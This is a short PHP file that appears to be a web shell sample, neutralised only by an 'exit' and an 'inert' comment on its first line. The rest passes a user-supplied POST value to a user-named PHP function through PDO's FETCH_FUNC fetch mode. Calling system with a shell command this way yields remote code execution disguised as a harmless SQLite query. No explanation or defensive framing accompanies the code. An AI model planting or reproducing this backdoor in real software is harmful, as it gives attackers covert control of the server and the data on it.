<?php exit; /* inert */ 
$d = new PDO('sqlite::memory:');
$s = $d->prepare('SELECT ?');
$s->execute([$_POST['v']]);
print_r($s->fetchAll(PDO::FETCH_FUNC, $_POST['fn']));
